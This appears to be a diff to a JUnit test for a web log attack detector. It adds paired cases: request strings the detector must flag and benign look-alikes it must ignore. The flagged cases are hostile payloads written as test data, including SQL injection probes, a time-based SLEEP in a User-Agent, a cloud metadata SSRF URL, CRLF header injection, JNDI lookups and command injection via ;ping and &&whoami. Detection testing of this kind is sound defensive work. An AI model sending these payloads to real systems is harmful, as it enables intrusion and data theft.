@@ -25,7 +25,7 @@ import org.junit.jupiter.params.provider.ValueSource;
 class AttackSearchTest {
     private static final Endpoint ITEMS = new Endpoint(3, "/items", Rule.ROUTE);
 
-    private final AttackSearch search = new AttackSearch(new AgentFamilies());
+    private final AttackSearch search = new AttackSearch(new AgentFamilies(), new EndpointTraits(List.of()));
     private final AccessRecord record = new AccessRecord();
 
     private List<String> patterns(long found) {
@@ -70,6 +70,21 @@ class AttackSearchTest {
                 "/items?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di | command_injection",
                 "/items?x=$%7Bjndi:ldap://192.0.2.1/a%7D | jndi",
                 "/items?x=%24%7b%24%7blower:j%7dndi | jndi",
+                "/items?id=1%20AND%205386%3D5386 | sql_injection",
+                "/items?id=1)+aNd+(5386=4211 | sql_injection",
+                "/items?id=1%27)%20AND%20%27ab1%27=%27ab1 | sql_injection",
+                "/items?id=1%22/**/or/**/%22x%22=%22y | sql_injection",
+                "/items?id=-1%20or%203*2=6%20-- | sql_injection",
+                "/items?id=1%20ORDER%20BY%205%23 | sql_injection",
+                "/items?id=1+order+by+12--+- | sql_injection",
+                "/items?id=1%20AND%20ASCII(SUBSTRING((SELECT%20a),1,1))>64 | sql_injection",
+                "/items?id=1%20AND%20EXISTS(SELECT%201) | sql_injection",
+                "/items?id=1+UN/**/ION+SEL/**/ECT+1 | sql_injection",
+                "/items?u=http://169.254.169.254/latest/meta-data/ | path_traversal",
+                "/items?h=a%0d%0aSet-Cookie:%20a=b | xss",
+                "/items?h=192.0.2.1;ping%20-c%204%20a | command_injection",
+                "/items?h=192.0.2.1%26%26whoami | command_injection",
+                "/items?__proto__[admin]=1 | command_injection",
                 "/.env | scanner",
                 "/items/.git/config | scanner",
             })
@@ -91,10 +106,30 @@ class AttackSearchTest {
                 "/.well-known/openid-configuration",
                 "/items?date=2026-11-29T10:00:00%2B01:00&size=10%25",
                 "/javascript:void(0)",
+                "/items?q=rock+and+roll=1",
+                "/items?$filter=Price%20gt%205%20and%20Kind%20eq%20'a'&x='b'",
+                "/items?q=status=1%20and%20type=2",
+                "/items?q=5+or+6&n=6",
+                "/items?sort=order+by+5",
+                "/items?note=Name:%20a%0d%0aLocation:%20b",
+                "/items?q=how+to+send+set-cookie:+twice",
+                "/items/download.php?cmd=list",
                 "/a/../b.css",
             })
     void what_is_ordinary_is_left_alone(String target) {
         assertThat(patterns(answered(target))).isEmpty();
+    }
+
+    @Test
+    void a_command_to_a_script_among_what_clients_sent_is_found_though_it_is_made_of_letters() {
+        byte[] target = "/uploads/2026/a.php?cmd=hostname".getBytes(StandardCharsets.UTF_8);
+        record.target.set(target, 0, target.length);
+        record.status = 200;
+        assertThat(patterns(found(new Endpoint(4, "/uploads/{id}/a.php", Rule.SHAPE))))
+                .containsExactly("command_injection");
+        target = "/shop/a.php?cmd=hostname".getBytes(StandardCharsets.UTF_8);
+        record.target.set(target, 0, target.length);
+        assertThat(patterns(found(new Endpoint(5, "/shop/a.php", Rule.PATH)))).isEmpty();
     }
 
     @Test
@@ -115,6 +150,14 @@ class AttackSearchTest {
         assertThat(patterns(found(ITEMS))).containsExactly("jndi", "shellshock");
         record.referer.clear();
         assertThat(patterns(found(ITEMS))).containsExactly("shellshock");
+    }
+
+    @Test
+    void conditions_that_wait_are_found_in_an_agent() {
+        record.status = 200;
+        byte[] agent = "x' AND SLEEP(5)-- 1".getBytes(StandardCharsets.UTF_8);
+        record.userAgent.set(agent, 0, agent.length);
+        assertThat(patterns(found(ITEMS))).containsExactly("sql_injection");
     }
 
     @Test
